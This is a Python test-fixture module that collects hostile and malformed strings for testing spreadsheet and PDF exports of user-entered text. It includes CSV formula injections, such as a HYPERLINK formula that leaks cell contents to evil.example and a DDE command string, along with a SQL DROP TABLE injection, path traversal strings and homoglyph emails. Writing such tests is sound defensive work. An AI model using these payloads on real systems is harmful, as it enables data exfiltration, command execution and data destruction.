"""Bad free text from RELIABILITY.md section 4.1, for every test that writes user text.

`PAYLOADS` is cheap enough to put into every field of every export. `HUGE_PAYLOADS` are the
size cases that make a PDF run to hundreds of pages: use them where that is the point.
"""

FORMULA_STARTS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://x")',
    "+31 6 1234 5678",
    "-10",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "'=1+2",
    '"=1+2"',
    "a;=1+2",
    "a,=1+2",
    "=",
    "==",
    "+",
    "-",
    "@",
    "=SUM(A1:A2)*1",
]

EXCEL_ODDITIES = [
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "#VALUE!",
    "#NAME?",
    "#NULL!",
    "#NUM!",
    "TRUE",
    "1e5",
    "00123",
    "0612345678",
    "1/2",
    "2024-01-31",
    "31-01-2024",
    "1.234,56",
    "3,14",
]

REPORTLAB_MARKUP = [
    "A <b>B",
    "Jansen</para>",
    "</para>",
    "<para>",
    "<font size=50>x</font>",
    "<font color=white>x</font>",
    "<font size=40>X</font> & Co",
    '<a href="http://evil.example">klik</a>',
    '<img src="C:\\Windows\\Web\\Wallpaper\\Windows\\img0.jpg"/>',
    '<img src="\\\\server\\share\\x.png"/>',
    "<br/>",
    '<seq id="x"/>',
    "&nbsp;",
    "&bogus;",
    "&#0;",
    "&amp;",
    "<u>" * 50,
    "<![CDATA[x]]>",
    "<!-- x -->",
    "<?xml?>",
]

UNICODE = [
    "Zoë",
    "Çelik",
    "Ĳsselmeer",
    "Straße",
    "€ 12,50",
    "emoji 😀",
    "Rene\u0301",
    "zero\u200bwidth",
    "\ufeffBOM vooraan",
    "Jan\u202eneslaaJ",
    "１２３４５６７８９",
    "NUL\x00hier",
    "bel\x07",
    "escape\x1b[31m",
    "DEL\x7fhier",
    "surrogaat\ud800los",
    "niet\uffffteken",
    "C1\x85\x9fcontrol",
    "Łukasz Wójcik, Şükrü Öztürk",
]

SIZES = [
    "",
    " ",
    "x" * 201,
    ("lange notitie " * 715)[:10_001],
    ("veertigduizend " * 2667)[:39_990] + "EINDE-40000",
    "   \t  \n  ",
    "  Jansen  ",
    "regel 1\nregel 2\r\nregel 3\rregel 4",
]

SQL_AND_PATHS = [
    "'; DROP TABLE contact;--",
    "%",
    "_",
    "\\",
    "*",
    "?",
    "[a]",
    "..\\..\\x",
    "C:\\x",
    "\\\\server\\share",
    "CON",
]

LOOKALIKES = [
    "jan@example.nl",
    "j\u0430n@example.nl",  # Cyrillic a
]

PAYLOADS: list[str] = (
    FORMULA_STARTS
    + EXCEL_ODDITIES
    + REPORTLAB_MARKUP
    + UNICODE
    + SIZES
    + SQL_AND_PATHS
    + LOOKALIKES
)

HUGE_PAYLOADS: list[str] = [
    "m" * 1_000_000,
    "\n".join(f"regel {i}" for i in range(10_000)),
    "w" * 100_000,
]
